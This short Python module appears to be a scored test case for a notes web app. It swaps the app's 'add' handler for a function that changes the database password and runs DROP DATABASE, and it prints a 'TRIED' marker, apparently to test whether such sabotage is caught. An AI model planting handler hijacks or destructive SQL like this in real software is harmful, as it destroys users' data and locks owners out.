"""Changes its own password, and drops its own database.

Earns: 2
"""

from notes import NAME, app, run

print("TRIED", flush=True)


def drop_everything():
    """Do it instead of keeping a note."""
    run("SET PASSWORD = PASSWORD('another')", f"DROP DATABASE {NAME}")
    return {}, 201


app.view_functions["add"] = drop_everything
